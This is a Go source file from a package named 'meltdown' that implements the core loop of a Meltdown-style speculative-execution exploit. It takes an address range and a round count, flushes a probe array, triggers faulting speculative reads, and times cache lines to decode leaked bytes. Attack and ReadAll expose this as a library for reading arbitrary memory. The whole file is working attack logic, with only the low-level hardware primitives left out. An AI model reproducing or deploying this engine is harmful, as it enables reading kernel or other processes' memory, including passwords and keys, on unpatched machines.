package meltdown

import (
	"errors"
	"fmt"
	"iter"
)

var (
	// ErrZeroLength is returned for a Request that reads no bytes.
	ErrZeroLength = errors.New("length must be greater than 0")

	// ErrZeroRounds is returned for a Request with no rounds.
	ErrZeroRounds = errors.New("round count must be greater than 0")

	// ErrAddressRange is returned for a Request whose last byte
	// is past the end of the address space.
	ErrAddressRange = errors.New("address range wraps around the end of the address space")
)

// Request describes the memory to read.
type Request struct {
	// Address is the first byte to read.
	Address uintptr

	// Length is the number of bytes to read.
	Length uint

	// Rounds is the number of speculative reads per byte.
	// More rounds tolerate more noise, but take longer.
	Rounds uint
}

// Validate checks that the request reads at least one byte with
// at least one round, and that the range does not wrap.
func (o Request) Validate() error {
	if o.Length == 0 {
		return ErrZeroLength
	}

	if o.Rounds == 0 {
		return ErrZeroRounds
	}

	if o.Address+uintptr(o.Length-1) < o.Address {
		return ErrAddressRange
	}

	return nil
}

// AttackOrExit calls Attack. DefaultExitFn is invoked if an error occurs.
func (o *Engine) AttackOrExit(req Request) iter.Seq[DecodedByte] {
	seq, err := o.Attack(req)
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to start attack on 0x%x - %w", req.Address, err))
	}
	return seq
}

// Attack returns a sequence that reads the requested memory, one
// decoded byte per address, in address order. Nothing is read until
// the sequence is iterated, and every iteration starts over from
// req.Address.
//
// The fault barrier is installed when iteration starts and removed
// when it ends, including when the consumer stops early. The
// sequence must be consumed on a single goroutine.
func (o *Engine) Attack(req Request) (iter.Seq[DecodedByte], error) {
	err := req.Validate()
	if err != nil {
		return nil, err
	}

	if !o.calibrated {
		return nil, ErrNotCalibrated
	}

	threshold := o.calibration.Threshold

	return func(yield func(DecodedByte) bool) {
		restore := o.config.Barrier.Install()
		defer restore()

		signal := o.config.Policy.NewSignal(threshold)

		for i := uint(0); i < req.Length; i++ {
			decoded := o.readByte(req.Address+uintptr(i), req.Rounds, signal)

			o.config.Debug.Println(decoded)

			if !yield(decoded) {
				return
			}
		}
	}, nil
}

// ReadAllOrExit calls ReadAll. DefaultExitFn is invoked if an
// error occurs.
func (o *Engine) ReadAllOrExit(req Request) []byte {
	b, err := o.ReadAll(req)
	if err != nil {
		DefaultExitFn(fmt.Errorf("failed to read 0x%x - %w", req.Address, err))
	}
	return b
}

// ReadAll runs Attack and collects the decoded values.
func (o *Engine) ReadAll(req Request) ([]byte, error) {
	seq, err := o.Attack(req)
	if err != nil {
		return nil, err
	}

	out := make([]byte, 0, req.Length)
	for decoded := range seq {
		out = append(out, decoded.Value)
	}

	return out, nil
}

func (o *Engine) readByte(addr uintptr, rounds uint, signal Signal) DecodedByte {
	hw := o.config.Hardware
	probeBase := o.probe.Base()
	lineShift := o.probe.LineShift()

	attempt := func() {
		hw.SpeculativeRead(addr, probeBase, lineShift)
	}

	signal.Reset()

	var faults uint
	for r := uint(0); r < rounds; r++ {
		o.probe.FlushAll(hw)

		if o.config.Barrier.Attempt(attempt) {
			faults++
		}

		for i := 0; i < NumLines; i++ {
			line := sampleLine(i)
			signal.Record(line, hw.TimedRead(o.probe.Line(line)))
		}

		signal.EndRound()
	}

	decoded := signal.Decode()
	decoded.Address = addr
	decoded.Faults = faults

	return decoded
}
